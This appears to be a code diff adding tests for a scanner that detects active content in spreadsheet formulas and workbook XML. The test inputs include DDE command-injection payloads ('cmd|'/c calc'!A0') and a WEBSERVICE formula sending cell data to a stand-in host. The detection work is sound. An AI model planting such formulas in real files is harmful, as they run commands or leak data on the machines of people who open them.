@@ -447,6 +447,11 @@ TEST_SUITE("active") {
     CHECK(formula("_xlfn.WEBSERVICE(\"http://example.com/\"&amp;A1)") == "macro.external_link ");
     CHECK(formula("1+RTD (\"x.y\",,\"z\")") == "macro.dde ");
     CHECK(formula("SUM(A1:B2)+ADDE(1)") == "");
+    CHECK(formula("1+cmd|'/c calc'!A0") == "macro.dde ");
+    CHECK(formula("\"a|b\"&amp;Sheet2!A1") == "");
+    CHECK(codes(look(docx("", {{"xl/workbook.xml",
+                                "<w><definedNames><definedName name='x'>cmd|'/c calc'!A0</definedName>"
+                                "</definedNames></w>"}}))) == "macro.dde ");
     const auto cell = [](const std::string& text) {
       return codes(look(sample::odt("<c xmlns:table='t' table:formula='" + text + "'/>")));
     };
